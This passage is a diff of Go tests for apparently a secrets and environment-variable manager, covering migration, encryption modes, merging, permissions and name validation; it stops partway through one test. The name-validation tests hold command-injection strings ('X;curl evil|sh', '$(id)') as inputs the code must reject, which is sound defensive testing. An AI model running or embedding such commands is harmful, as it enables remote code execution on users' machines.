@@ -3,6 +3,8 @@ package entries
 import (
 	"encoding/base64"
 	"encoding/json"
+	"errors"
+	"fmt"
 	"os"
 	"testing"
 
@@ -10,6 +12,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/loderunner/apiki/internal/crypto"
+	"github.com/loderunner/apiki/internal/migrate"
 )
 
 func TestMain(m *testing.M) {
@@ -42,10 +45,11 @@ func TestLoad(t *testing.T) {
 	t.Run("loads valid file with entries", func(t *testing.T) {
 		path := "/test/valid.json"
 		expectedFile := &File{
+			Version:    Version,
 			Encryption: EncryptionHeader{},
 			Entries: []Entry{
-				{Name: "VAR1", Value: "value1"},
-				{Name: "VAR2", Value: "value2", Label: "test label"},
+				{ID: "1", Name: "VAR1", Value: "value1"},
+				{ID: "2", Name: "VAR2", Value: "value2", Label: "test label"},
 			},
 		}
 
@@ -64,13 +68,14 @@ func TestLoad(t *testing.T) {
 	t.Run("loads file with encryption header", func(t *testing.T) {
 		path := "/test/encrypted.json"
 		expectedFile := &File{
+			Version: Version,
 			Encryption: EncryptionHeader{
 				Mode:     "password",
 				Salt:     "dGVzdC1zYWx0",
 				Verifier: "dGVzdC12ZXJpZmllcg==",
 			},
 			Entries: []Entry{
-				{Name: "VAR1", Value: "enc:v1:encrypted"},
+				{ID: "1", Name: "VAR1", Value: "enc:v1:encrypted"},
 			},
 		}
 
@@ -87,6 +92,184 @@ func TestLoad(t *testing.T) {
 		require.Equal(t, expectedFile.Entries, file.Entries)
 	})
 
+	t.Run("migrates files from older versions", func(t *testing.T) {
+		path := "/test/legacy.json"
+		data := []byte(`{"entries": [{"name": "VAR1", "value": "value1"}]}`)
+		err := afero.WriteFile(fs, path, data, 0o644)
+		require.NoError(t, err)
+
+		file, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(t, Version, file.Version)
+		require.Len(t, file.Entries, 1)
+		require.NotEmpty(t, file.Entries[0].ID)
+
+		backup, err := afero.ReadFile(fs, path+".v0.bak")
+		require.NoError(t, err)
+		require.Equal(t, data, backup)
+
+		saved, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(t, file.Entries, saved.Entries)
+	})
+
+	t.Run("assigns an ID to files", func(t *testing.T) {
+		path := "/test/legacy-id.json"
+		data := []byte(`{"version": 3, "entries": []}`)
+		err := afero.WriteFile(fs, path, data, 0o600)
+		require.NoError(t, err)
+
+		file, err := Load(path)
+		require.NoError(t, err)
+		require.NotEmpty(t, file.ID)
+
+		saved, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(t, file.ID, saved.ID)
+	})
+
+	t.Run("marks entries of encrypted files as secret", func(t *testing.T) {
+		path := "/test/legacy-encrypted.json"
+		data := []byte(`{
+			"version": 1,
+			"encryption": {"mode": "keychain"},
+			"entries": [{"id": "1", "name": "VAR1", "value": "enc:v1:x"}]
+		}`)
+		err := afero.WriteFile(fs, path, data, 0o600)
+		require.NoError(t, err)
+
+		file, err := Load(path)
+		require.NoError(t, err)
+		require.True(t, file.Entries[0].Secret)
+
+		path = "/test/legacy-plaintext.json"
+		data = []byte(`{
+			"version": 1,
+			"entries": [{"id": "1", "name": "VAR1", "value": "value1"}]
+		}`)
+		err = afero.WriteFile(fs, path, data, 0o600)
+		require.NoError(t, err)
+
+		file, err = Load(path)
+		require.NoError(t, err)
+		require.False(t, file.Entries[0].Secret)
+	})
+
+	t.Run("records the KDF of password-protected files", func(t *testing.T) {
+		path := "/test/legacy-password.json"
+		data := []byte(`{
+			"version": 2,
+			"encryption": {"mode": "password", "salt": "c2FsdA==", "verifier": "dg=="},
+			"entries": []
+		}`)
+		err := afero.WriteFile(fs, path, data, 0o600)
+		require.NoError(t, err)
+
+		file, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(
+			t,
+			&KDF{
+				Name:        "argon2id",
+				Memory:      crypto.DefaultKDFParams.Memory,
+				Iterations:  crypto.DefaultKDFParams.Iterations,
+				Parallelism: crypto.DefaultKDFParams.Parallelism,
+			},
+			file.Encryption.KDF,
+		)
+	})
+
+	t.Run("records the keychain item of keychain files", func(t *testing.T) {
+		path := "/test/legacy-keychain.json"
+		data := []byte(`{
+			"version": 5,
+			"encryption": {"mode": "keychain"},
+			"entries": []
+		}`)
+		err := afero.WriteFile(fs, path, data, 0o600)
+		require.NoError(t, err)
+
+		file, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(t, "encryption-key", file.Encryption.KeychainAccount)
+	})
+
+	t.Run("copies the shared keychain item", func(t *testing.T) {
+		var copied []string
+		CopyKeychainKey = func(path, account string) (string, error) {
+			copied = append(copied, path, account)
+			return "encryption-key-copy", nil
+		}
+		t.Cleanup(func() { CopyKeychainKey = nil })
+
+		path := "/test/legacy-keychain-copy.json"
+		data := []byte(`{
+			"version": 5,
+			"encryption": {"mode": "keychain"},
+			"entries": []
+		}`)
+		err := afero.WriteFile(fs, path, data, 0o600)
+		require.NoError(t, err)
+
+		file, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(t, []string{path, "encryption-key"}, copied)
+		require.Equal(
+			t,
+			"encryption-key-copy",
+			file.Encryption.KeychainAccount,
+		)
+
+		// The copy is saved, and the backup still uses the shared item
+		header, err := LoadHeader(path)
+		require.NoError(t, err)
+		require.Equal(t, "encryption-key-copy", header.KeychainAccount)
+		header, err = LoadHeader(path + ".v5.bak")
+		require.NoError(t, err)
+		require.Equal(t, "encryption-key", header.KeychainAccount)
+	})
+
+	t.Run("keeps the shared keychain item until copied", func(t *testing.T) {
+		CopyKeychainKey = func(path, account string) (string, error) {
+			return "", errors.New("keychain unavailable")
+		}
+		t.Cleanup(func() { CopyKeychainKey = nil })
+
+		path := "/test/legacy-keychain-retry.json"
+		data := []byte(`{
+			"version": 5,
+			"encryption": {"mode": "keychain"},
+			"entries": []
+		}`)
+		err := afero.WriteFile(fs, path, data, 0o600)
+		require.NoError(t, err)
+
+		file, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(t, "encryption-key", file.Encryption.KeychainAccount)
+
+		CopyKeychainKey = func(path, account string) (string, error) {
+			return "encryption-key-copy", nil
+		}
+		file, err = Load(path)
+		require.NoError(t, err)
+		require.Equal(
+			t,
+			"encryption-key-copy",
+			file.Encryption.KeychainAccount,
+		)
+	})
+
+	t.Run("refuses files from newer versions", func(t *testing.T) {
+		path := "/test/newer.json"
+		data := fmt.Sprintf(`{"version": %d, "entries": []}`, Version+1)
+		err := afero.WriteFile(fs, path, []byte(data), 0o644)
+		require.NoError(t, err)
+
+		_, err = Load(path)
+		require.ErrorIs(t, err, migrate.ErrTooNew)
+	})
+
 	t.Run("creates directory if it does not exist", func(t *testing.T) {
 		path := "/new/dir/file.json"
 		file, err := Load(path)
@@ -107,6 +290,200 @@ func TestLoad(t *testing.T) {
 		require.Error(t, err)
 		require.Contains(t, err.Error(), "failed to parse JSON")
 	})
+
+	t.Run("returns error for invalid variable name", func(t *testing.T) {
+		path := "/test/invalid-name.json"
+		data := `{"entries": [{"name": "X;curl evil|sh", "value": "v"}]}`
+		err := afero.WriteFile(fs, path, []byte(data), 0o644)
+		require.NoError(t, err)
+
+		_, err = Load(path)
+		require.ErrorIs(t, err, ErrInvalidName)
+		require.Contains(t, err.Error(), "X;curl evil|sh")
+		require.Contains(t, err.Error(), "edit "+path)
+	})
+}
+
+func TestLoadHeader(t *testing.T) {
+	t.Run("reads header without unlocking", func(t *testing.T) {
+		path := "/test/header.json"
+		file := &File{
+			ID:         NewID(),
+			Encryption: EncryptionHeader{FullFile: true},
+			Entries:    []Entry{{ID: "1", Name: "VAR1", Value: "value1"}},
+		}
+		key := make([]byte, 32)
+		file.SetKeychainMode("encryption-key-test")
+		require.NoError(t, file.EncryptValues(key))
+		require.NoError(t, Save(path, file))
+
+		header, err := LoadHeader(path)
+		require.NoError(t, err)
+		require.Equal(t, file.Encryption, header)
+	})
+
+	t.Run("migrates header in memory", func(t *testing.T) {
+		path := "/test/header-legacy.json"
+		data := []byte(`{
+			"version": 5,
+			"encryption": {"mode": "keychain"},
+			"entries": []
+		}`)
+		err := afero.WriteFile(fs, path, data, 0o600)
+		require.NoError(t, err)
+
+		header, err := LoadHeader(path)
+		require.NoError(t, err)
+		require.Equal(t, "encryption-key", header.KeychainAccount)
+
+		saved, err := afero.ReadFile(fs, path)
+		require.NoError(t, err)
+		require.Equal(t, data, saved)
+	})
+
+	t.Run("returns error for missing file", func(t *testing.T) {
+		_, err := LoadHeader("/test/missing-header.json")
+		require.ErrorIs(t, err, os.ErrNotExist)
+	})
+}
+
+func TestValidateName(t *testing.T) {
+	t.Run("accepts valid names", func(t *testing.T) {
+		for _, name := range []string{"PATH", "_", "_x1", "aws_region", "A1B2"} {
+			require.NoError(t, ValidateName(name), name)
+		}
+	})
+
+	t.Run("rejects invalid names", func(t *testing.T) {
+		for _, name := range []string{
+			"",
+			"1X",
+			"X-Y",
+			"X Y",
+			"X;curl evil|sh",
+			"$(id)",
+			"X\nY",
+			"É",
+		} {
+			require.ErrorIs(t, ValidateName(name), ErrInvalidName, name)
+		}
+	})
+}
+
+func TestParseTags(t *testing.T) {
+	t.Run("splits on commas and spaces", func(t *testing.T) {
+		require.Equal(
+			t,
+			[]string{"aws", "prod", "team-a"},
+			ParseTags("prod, aws team-a,,"),
+		)
+	})
+
+	t.Run("drops duplicates case-insensitively", func(t *testing.T) {
+		require.Equal(t, []string{"AWS"}, ParseTags("AWS aws"))
+	})
+
+	t.Run("returns nil for empty input", func(t *testing.T) {
+		require.Nil(t, ParseTags("  , "))
+	})
+}
+
+func TestHasTag(t *testing.T) {
+	entry := Entry{Name: "VAR", Tags: []string{"aws", "prod"}}
+	require.True(t, entry.HasTag("AWS"))
+	require.False(t, entry.HasTag("staging"))
+}
+
+func TestMigrations(t *testing.T) {
+	require.Len(t, migrations, Version)
+}
+
+func TestEqual(t *testing.T) {
+	entry := Entry{Name: "VAR", Value: "v", Label: "l", Tags: []string{"aws"}}
+	require.True(t, entry.Equal(entry))
+	require.True(
+		t,
+		Entry{Name: "VAR"}.Equal(Entry{Name: "VAR", Tags: []string{}}),
+	)
+
+	other := entry
+	other.Tags = []string{"prod"}
+	require.False(t, entry.Equal(other))
+	other = entry
+	other.Value = "w"
+	require.False(t, entry.Equal(other))
+}
+
+func TestMerge(t *testing.T) {
+	base := []Entry{
+		{ID: "1", Name: "A", Value: "a"},
+		{ID: "2", Name: "B", Value: "b"},
+		{ID: "3", Name: "C", Value: "c"},
+		{ID: "4", Name: "D", Value: "d"},
+		{ID: "5", Name: "E", Value: "e"},
+	}
+	ours := []Entry{
+		{ID: "1", Name: "A", Value: "ours"},
+		{ID: "2", Name: "B", Value: "b"},
+		{ID: "3", Name: "C", Value: "ours"},
+		{ID: "5", Name: "E", Value: "e"},
+		{ID: "6", Name: "F", Value: "ours"},
+	}
+	theirs := []Entry{
+		{ID: "1", Name: "A", Value: "a"},
+		{ID: "2", Name: "B", Value: "theirs"},
+		{ID: "3", Name: "C", Value: "theirs"},
+		{ID: "4", Name: "D", Value: "theirs"},
+		{ID: "7", Name: "G", Value: "theirs"},
+	}
+
+	merged := Merge(base, ours, theirs)
+	require.Equal(t, []Entry{
+		// Changed by us
+		{ID: "1", Name: "A", Value: "ours"},
+		// Changed by them
+		{ID: "2", Name: "B", Value: "theirs"},
+		// Changed by both, ours wins
+		{ID: "3", Name: "C", Value: "ours"},
+		// D was deleted by us, E by them
+		// Added by us
+		{ID: "6", Name: "F", Value: "ours"},
+		// Added by them
+		{ID: "7", Name: "G", Value: "theirs"},
+	}, merged)
+}
+
+func TestAssignIDs(t *testing.T) {
+	file := &File{Entries: []Entry{{Name: "A"}, {ID: "kept", Name: "B"}}}
+	require.True(t, file.AssignIDs())
+	require.NotEmpty(t, file.Entries[0].ID)
+	require.Equal(t, "kept", file.Entries[1].ID)
+
+	require.False(t, file.AssignIDs())
+	require.NotEqual(t, NewID(), NewID())
+}
+
+func TestCheckPermissions(t *testing.T) {
+	t.Run("accepts files private to their owner", func(t *testing.T) {
+		path := "/test/private.json"
+		err := afero.WriteFile(fs, path, []byte("{}"), 0o600)
+		require.NoError(t, err)
+		require.NoError(t, CheckPermissions(path))
+	})
+
+	t.Run("rejects files readable by others", func(t *testing.T) {
+		for _, mode := range []os.FileMode{0o644, 0o640, 0o604, 0o620} {
+			path := "/test/shared.json"
+			err := afero.WriteFile(fs, path, []byte("{}"), mode)
+			require.NoError(t, err)
+			require.NoError(t, fs.Chmod(path, mode))
+			require.ErrorIs(t, CheckPermissions(path), ErrInsecurePermissions)
+		}
+	})
+
+	t.Run("accepts missing files", func(t *testing.T) {
+		require.NoError(t, CheckPermissions("/test/missing.json"))
+	})
 }
 
 func TestSave(t *testing.T) {
@@ -147,6 +524,20 @@ func TestSave(t *testing.T) {
 		require.True(t, exists)
 	})
 
+	t.Run("restricts new files to their owner", func(t *testing.T) {
+		path := "/private/dir/save.json"
+		err := Save(path, &File{Entries: []Entry{}})
+		require.NoError(t, err)
+
+		info, err := fs.Stat(path)
+		require.NoError(t, err)
+		require.Equal(t, os.FileMode(0o600), info.Mode().Perm())
+
+		info, err = fs.Stat("/private/dir")
+		require.NoError(t, err)
+		require.Equal(t, os.FileMode(0o700), info.Mode().Perm())
+	})
+
 	t.Run("saves file with encryption header", func(t *testing.T) {
 		path := "/test/encrypted.json"
 		file := &File{
@@ -170,6 +561,120 @@ func TestSave(t *testing.T) {
 	})
 }
 
+func TestFullFile(t *testing.T) {
+	key, err := crypto.GenerateKey()
+	require.NoError(t, err)
+
+	newFile := func(t *testing.T) *File {
+		t.Helper()
+		file := &File{
+			Encryption: EncryptionHeader{Mode: "keychain", FullFile: true},
+			Entries: []Entry{
+				{ID: "1", Name: "STRIPE_KEY", Value: "sk", Label: "client X"},
+				{ID: "2", Name: "TOKEN", Value: "token", Secret: true},
+			},
+		}
+		require.NoError(t, file.EncryptValues(key))
+		return file
+	}
+
+	t.Run("hides names and labels", func(t *testing.T) {
+		path := "/test/full-file-hidden.json"
+		err := Save(path, newFile(t))
+		require.NoError(t, err)
+
+		data, err := afero.ReadFile(fs, path)
+		require.NoError(t, err)
+		require.NotContains(t, string(data), "STRIPE_KEY")
+		require.NotContains(t, string(data), "client X")
+		require.NotContains(t, string(data), "TOKEN")
+	})
+
+	t.Run("loads with key", func(t *testing.T) {
+		path := "/test/full-file-key.json"
+		file := newFile(t)
+		err := Save(path, file)
+		require.NoError(t, err)
+
+		loaded, err := LoadWithKey(path, key)
+		require.NoError(t, err)
+		require.Equal(t, file.Entries, loaded.Entries)
+		require.Equal(t, key, loaded.Key())
+		require.True(t, crypto.IsEncrypted(loaded.Entries[1].Value))
+	})
+
+	t.Run("loads with unlocker", func(t *testing.T) {
+		path := "/test/full-file-unlocker.json"
+		file := newFile(t)
+		err := Save(path, file)
+		require.NoError(t, err)
+
+		Unlocker = func(string, *File) ([]byte, error) { return key, nil }
+		defer func() { Unlocker = nil }()
+
+		loaded, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(t, file.Entries, loaded.Entries)
+
+		// Saved again with the same key
+		loaded.Entries[0].Label = "client Y"
+		err = Save(path, loaded)
+		require.NoError(t, err)
+		reloaded, err := Load(path)
+		require.NoError(t, err)
+		require.Equal(t, "client Y", reloaded.Entries[0].Label)
+	})
+
+	t.Run("is locked without unlocker", func(t *testing.T) {
+		path := "/test/full-file-locked.json"
+		err := Save(path, newFile(t))
+		require.NoError(t, err)
+
+		_, err = Load(path)
+		require.ErrorIs(t, err, ErrLocked)
+	})
+
+	t.Run("rejects wrong key", func(t *testing.T) {
+		path := "/test/full-file-wrong-key.json"
+		err := Save(path, newFile(t))
+		require.NoError(t, err)
+
+		other, err := crypto.GenerateKey()
+		require.NoError(t, err)
+		_, err = LoadWithKey(path, other)
+		require.Error(t, err)
+		require.Contains(t, err.Error(), "failed to decrypt entries")
+	})
+
+	t.Run("refuses to save without key", func(t *testing.T) {
+		file := &File{
+			Encryption: EncryptionHeader{Mode: "keychain", FullFile: true},
+			Entries:    []Entry{{ID: "1", Name: "VAR1", Value: "value1"}},
+		}
+		err := Save("/test/full-file-no-key.json", file)
+		require.ErrorIs(t, err, ErrLocked)
+	})
+
+	t.Run("is kept when changing mode", func(t *testing.T) {
+		file := newFile(t)
+		file.SetKeychainMode("encryption-key-test")
+		require.True(t, file.Encryption.FullFile)
+
+		_, err := file.SetPasswordMode("password", crypto.DefaultKDFParams)
+		require.NoError(t, err)
+		require.True(t, file.Encryption.FullFile)
+
+		_, recipient, err := crypto.GenerateIdentity()
+		require.NoError(t, err)
+		err = file.SetRecipientsMode(key, []string{recipient})
+		require.NoError(t, err)
+		require.True(t, file.Encryption.FullFile)
+
+		file.ClearEncryption()
+		require.False(t, file.Encryption.FullFile)
+	})
+}
+
 func TestEncrypted(t *testing.T) {
 	t.Run("returns false for unencrypted file", func(t *testing.T) {
 		file := &File{
@@ -194,16 +699,18 @@ func TestEncrypted(t *testing.T) {
 }
 
 func TestEncryptValues(t *testing.T) {
-	t.Run("encrypts plaintext values", func(t *testing.T) {
+	t.Run("encrypts secret values", func(t *testing.T) {
 		key, err := crypto.GenerateKey()
 		require.NoError(t, err)
 
 		file := &File{
 			Entries: []Entry{
-				{Name: "VAR1", Value: "plaintext1"},
-				{Name: "VAR2", Value: "plaintext2"},
+				{Name: "VAR1", Value: "plaintext1", Secret: true},
+				{Name: "VAR2", Value: "plaintext2", Secret: true},
+				{Name: "VAR3", Value: "plaintext3"},
 			},
 		}
+		require.True(t, file.NeedsEncryption())
 
 		err = file.EncryptValues(key)
 		require.NoError(t, err)
@@ -218,32 +725,110 @@ func TestEncryptValues(t *testing.T) {
 			crypto.IsEncrypted(file.Entries[1].Value),
 			"VAR2 should be encrypted",
 		)
+		require.Equal(t, "plaintext3", file.Entries[2].Value)
+		require.False(t, file.NeedsEncryption())
 	})
 
-	t.Run("errors on already encrypted values", func(t *testing.T) {
+	t.Run("keeps already encrypted values", func(t *testing.T) {
 		key, err := crypto.GenerateKey()
 		require.NoError(t, err)
 
-		encrypted, err := crypto.Encrypt(key, "already-encrypted-value")
+		file := &File{ID: "file"}
+		encrypted := encryptValue(
+			t,
+			key,
+			file,
+			"VAR1",
+			"already-encrypted-value",
+		)
+
+		file = &File{
+			ID: "file",
+			Entries: []Entry{
+				{Name: "VAR1", Value: encrypted, Secret: true},
+				{Name: "VAR2", Value: "plaintext", Secret: true},
+			},
+		}
+		file.trackEncrypted()
+
+		err = file.EncryptValues(key)
 		require.NoError(t, err)
+		require.Equal(t, encrypted, file.Entries[0].Value)
+		require.True(t, crypto.IsEncrypted(file.Entries[1].Value))
 
+		err = file.DecryptValues(key)
+		require.NoError(t, err)
+		require.Equal(t, "already-encrypted-value", file.Entries[0].Value)
+		require.Equal(t, "plaintext", file.Entries[1].Value)
+	})
+
+	t.Run("encrypts values that look encrypted", func(t *testing.T) {
+		key, err := crypto.GenerateKey()
+		require.NoError(t, err)
+
+		path := "/test/looks-encrypted.json"
 		file := &File{
+			ID: "file",
 			Entries: []Entry{
-				{Name: "VAR1", Value: encrypted},
-				{Name: "VAR2", Value: "plaintext"},
+				{
+					ID:     "1",
+					Name:   "VAR1",
+					Value:  "enc:v2:plaintext",
+					Secret: true,
+				},
 			},
 		}
+		require.True(t, file.NeedsEncryption())
+		err = file.EncryptValues(key)
+		require.NoError(t, err)
+		require.NotEqual(t, "enc:v2:plaintext", file.Entries[0].Value)
+		require.NoError(t, Save(path, file))
+
+		loaded, err := Load(path)
+		require.NoError(t, err)
+		require.False(t, loaded.NeedsEncryption())
+		err = loaded.DecryptValues(key)
+		require.NoError(t, err)
+		require.Equal(t, "enc:v2:plaintext", loaded.Entries[0].Value)
 
+		// Changing a value to an encrypted value encrypts it again
+		loaded.Entries[0].Value = file.Entries[0].Value
+		require.True(t, loaded.NeedsEncryption())
+	})
+
+	t.Run("assigns entry IDs", func(t *testing.T) {
+		key, err := crypto.GenerateKey()
+		require.NoError(t, err)
+
+		file := &File{
+			Entries: []Entry{
+				{Name: "VAR1", Value: "plaintext", Secret: true},
+			},
+		}
 		err = file.EncryptValues(key)
-		require.Error(t, err)
-		require.Contains(t, err.Error(), "already encrypted")
+		require.NoError(t, err)
+		require.NotEmpty(t, file.Entries[0].ID)
+	})
+
+	t.Run("assigns file ID", func(t *testing.T) {
+		key, err := crypto.GenerateKey()
+		require.NoError(t, err)
+
+		file := &File{
+			Entries: []Entry{
+				{Name: "VAR1", Value: "plaintext", Secret: true},
+			},
+		}
+		err = file.EncryptValues(key)
+		require.NoError(t, err)
+		require.NotEmpty(t, file.ID)
 	})
 
 	t.Run("returns error for invalid key", func(t *testing.T) {
 		invalidKey := []byte("too-short")
 		file := &File{
 			Entries: []Entry{
-				{Name: "VAR1", Value: "plaintext"},
+				{Name: "VAR1", Value: "plaintext", Secret: true},
 			},
 		}
 
@@ -254,46 +839,42 @@ func TestEncryptValues(t *testing.T) {
 }
 
 func TestDecryptValues(t *testing.T) {
-	t.Run("decrypts encrypted values", func(t *testing.T) {
+	t.Run("decrypts secret values", func(t *testing.T) {
 		key, err := crypto.GenerateKey()
 		require.NoError(t, err)
 
 		plaintext1 := "secret1"
 		plaintext2 := "secret2"
 
-		encrypted1, err := crypto.Encrypt(key, plaintext1)
-		require.NoError(t, err)
-		encrypted2, err := crypto.Encrypt(key, plaintext2)
-		require.NoError(t, err)
+		file := &File{ID: "file"}
+		encrypted1 := encryptValue(t, key, file, "VAR1", plaintext1)
+		encrypted2 := encryptValue(t, key, file, "VAR2", plaintext2)
 
-		file := &File{
+		file = &File{
+			ID: "file",
 			Entries: []Entry{
-				{Name: "VAR1", Value: encrypted1},
-				{Name: "VAR2", Value: encrypted2},
+				{Name: "VAR1", Value: encrypted1, Secret: true},
+				{Name: "VAR2", Value: encrypted2, Secret: true},
+				{Name: "VAR3", Value: "plaintext3"},
 			},
 		}
-
-		// Store original encrypted values for comparison
-		original1 := file.Entries[0].Value
-		original2 := file.Entries[1].Value
+		file.trackEncrypted()
 
 		err = file.DecryptValues(key)
 		require.NoError(t, err)
 
-		// Values should be decrypted (different from encrypted)
-		require.NotEqual(t, original1, file.Entries[0].Value)
-		require.NotEqual(t, original2, file.Entries[1].Value)
 		require.Equal(t, plaintext1, file.Entries[0].Value)
 		require.Equal(t, plaintext2, file.Entries[1].Value)
+		require.Equal(t, "plaintext3", file.Entries[2].Value)
 	})
 
-	t.Run("errors on plaintext values", func(t *testing.T) {
+	t.Run("errors on plaintext secret values", func(t *testing.T) {
 		key, err := crypto.GenerateKey()
 		require.NoError(t, err)
 
 		file := &File{
 			Entries: []Entry{
-				{Name: "VAR1", Value: "plaintext-value"},
+				{Name: "VAR1", Value: "plaintext-value", Secret: true},
 			},
 		}
 
@@ -308,24 +889,107 @@ func TestDecryptValues(t *testing.T) {
 		key2, err := crypto.GenerateKey()
 		require.NoError(t, err)
 
-		encrypted, err := crypto.Encrypt(key1, "secret")
+		file := &File{ID: "file"}
+		encrypted := encryptValue(t, key1, file, "VAR1", "secret")
+
+		file.Entries = []Entry{
+			{Name: "VAR1", Value: encrypted, Secret: true},
+		}
+		file.trackEncrypted()
+
+		err = file.DecryptValues(key2)
+		require.Error(t, err)
+		require.Contains(t, err.Error(), "failed to decrypt variable")
+	})
+
+	t.Run("rejects values swapped between entries", func(t *testing.T) {
+		key, err := crypto.GenerateKey()
+		require.NoError(t, err)
+
+		file := &File{
+			ID: "file",
+			Entries: []Entry{
+				{Name: "DEV_PASSWORD", Value: "dev", Secret: true},
+				{Name: "PROD_PASSWORD", Value: "prod", Secret: true},
+			},
+		}
+		err = file.EncryptValues(key)
+		require.NoError(t, err)
+
+		file.Entries[0].Value, file.Entries[1].Value = file.Entries[1].Value, file.Entries[0].Value
+		file.trackEncrypted()
+		err = file.DecryptValues(key)
+		require.Error(t, err)
+		require.Contains(t, err.Error(), "failed to decrypt variable")
+	})
+
+	t.Run("rejects values swapped between variants", func(t *testing.T) {
+		key, err := crypto.GenerateKey()
 		require.NoError(t, err)
 
+		// Variants of a variable share its name, not their ID
 		file := &File{
+			ID: "file",
 			Entries: []Entry{
-				{Name: "VAR1", Value: encrypted},
+				{ID: "1", Name: "PASSWORD", Value: "dev", Secret: true},
+				{ID: "2", Name: "PASSWORD", Value: "prod", Secret: true},
 			},
 		}
+		err = file.EncryptValues(key)
+		require.NoError(t, err)
 
-		err = file.DecryptValues(key2)
+		file.Entries[0].Value, file.Entries[1].Value = file.Entries[1].Value, file.Entries[0].Value
+		file.trackEncrypted()
+		err = file.DecryptValues(key)
+		require.Error(t, err)
+		require.Contains(t, err.Error(), "failed to decrypt variable")
+	})
+
+	t.Run("rejects values moved from another file", func(t *testing.T) {
+		key, err := crypto.GenerateKey()
+		require.NoError(t, err)
+
+		other := &File{ID: "other"}
+		encrypted := encryptValue(t, key, other, "VAR1", "secret")
+
+		file := &File{
+			ID: "file",
+			Entries: []Entry{
+				{Name: "VAR1", Value: encrypted, Secret: true},
+			},
+		}
+		file.trackEncrypted()
+		err = file.DecryptValues(key)
 		require.Error(t, err)
 		require.Contains(t, err.Error(), "failed to decrypt variable")
 	})
 }
 
+func TestHasLegacyValues(t *testing.T) {
+	key, err := crypto.GenerateKey()
+	require.NoError(t, err)
+
+	file := &File{
+		Entries: []Entry{
+			{Name: "VAR1", Value: "plaintext", Secret: true},
+			{Name: "VAR2", Value: "enc:v1:not-secret"},
+		},
+	}
+	require.False(t, file.HasLegacyValues())
+
+	err = file.EncryptValues(key)
+	require.NoError(t, err)
+	require.False(t, file.HasLegacyValues())
+
+	file.Entries[0].Value = "enc:v1:legacy"
+	file.trackEncrypted()
+	require.True(t, file.HasLegacyValues())
+}
+
 func TestClone(t *testing.T) {
 	t.Run("creates deep copy", func(t *testing.T) {
 		original := &File{
+			ID: "file",
 			Encryption: EncryptionHeader{
 				Mode:     "password",
 				Salt:     "dGVzdC1zYWx0",
@@ -333,7 +997,12 @@ func TestClone(t *testing.T) {
 			},
 			Entries: []Entry{
 				{Name: "VAR1", Value: "value1"},
-				{Name: "VAR2", Value: "value2", Label: "label"},
+				{
+					Name:  "VAR2",
+					Value: "value2",
+					Label: "label",
+					Tags:  []string{"aws"},
+				},
 			},
 		}
 
@@ -344,6 +1013,45 @@ func TestClone(t *testing.T) {
 
 		clone.Entries[0].Value = "modified"
 		require.NotEqual(t, original.Entries[0].Value, clone.Entries[0].Value)
+
+		clone.Entries[1].Tags[0] = "modified"
+		require.Equal(t, "aws", original.Entries[1].Tags[0])
+	})
+
+	t.Run("copies recipients", func(t *testing.T) {
+		original := &File{
+			Encryption: EncryptionHeader{
+				Mode: "recipients",
+				Recipients: []Recipient{
+					{PublicKey: "key", WrappedKey: "wrapped"},
+				},
+			},
+		}
+
+		clone := original.Clone()
+		require.Equal(t, original.Encryption, clone.Encryption)
+
+		clone.Encryption.Recipients[0].WrappedKey = "modified"
+		require.Equal(
+			t,
+			"wrapped",
+			original.Encryption.Recipients[0].WrappedKey,
+		)
+	})
+
+	t.Run("copies KDF", func(t *testing.T) {
+		original := &File{
+			Encryption: EncryptionHeader{
+				Mode: "password",
+				KDF:  &KDF{Name: "argon2id", Memory: 8 * 1024},
+			},
+		}
+
+		clone := original.Clone()
+		require.Equal(t, original.Encryption, clone.Encryption)
+
+		clone.Encryption.KDF.Memory = 1
+		require.Equal(t, uint32(8*1024), original.Encryption.KDF.Memory)
 	})
 
 	t.Run("handles empty file", func(t *testing.T) {
@@ -362,7 +1070,7 @@ func TestVerifyPassword(t *testing.T) {
 	t.Run("verifies correct password", func(t *testing.T) {
 		password := "test-password"
 		file := &File{}
-		key, err := file.SetPasswordMode(password)
+		key, err := file.SetPasswordMode(password, crypto.DefaultKDFParams)
 		require.NoError(t, err)
 
 		verifiedKey, err := file.VerifyPassword(password)
@@ -373,7 +1081,7 @@ func TestVerifyPassword(t *testing.T) {
 	t.Run("rejects wrong password", func(t *testing.T) {
 		password := "test-password"
 		file := &File{}
-		_, err := file.SetPasswordMode(password)
+		_, err := file.SetPasswordMode(password, crypto.DefaultKDFParams)
 		require.NoError(t, err)
 
 		_, err = file.VerifyPassword("wrong-password")
@@ -381,6 +1089,37 @@ func TestVerifyPassword(t *testing.T) {
 		require.Contains(t, err.Error(), "wrong password")
 	})
 
+	t.Run("derives key with recorded parameters", func(t *testing.T) {
+		password := "test-password"
+		params := crypto.KDFParams{
+			Memory:      8 * 1024,
+			Iterations:  1,
+			Parallelism: 1,
+		}
+		file := &File{}
+		key, err := file.SetPasswordMode(password, params)
+		require.NoError(t, err)
+
+		verifiedKey, err := file.VerifyPassword(password)
+		require.NoError(t, err)
+		require.Equal(t, key, verifiedKey)
+
+		file.Encryption.KDF.Iterations = 2
+		_, err = file.VerifyPassword(password)
+		require.Error(t, err)
+	})
+
+	t.Run("returns error for unsupported KDF", func(t *testing.T) {
+		file := &File{}
+		_, err := file.SetPasswordMode("password", crypto.DefaultKDFParams)
+		require.NoError(t, err)
+
+		file.Encryption.KDF.Name = "scrypt"
+		_, err = file.VerifyPassword("password")
+		require.Error(t, err)
+		require.Contains(t, err.Error(), "unsupported KDF")
+	})
+
 	t.Run("returns error for non-password mode", func(t *testing.T) {
 		file := &File{
 			Encryption: EncryptionHeader{Mode: "keychain"},
@@ -423,12 +1162,35 @@ func TestVerifyPassword(t *testing.T) {
 	})
 }
 
+func TestVerifyKey(t *testing.T) {
+	file := &File{}
+	key, err := file.SetPasswordMode("password", crypto.DefaultKDFParams)
+	require.NoError(t, err)
+
+	t.Run("accepts derived key", func(t *testing.T) {
+		require.NoError(t, file.VerifyKey(key))
+	})
+
+	t.Run("rejects other key", func(t *testing.T) {
+		other, err := crypto.GenerateKey()
+		require.NoError(t, err)
+		require.Error(t, file.VerifyKey(other))
+	})
+
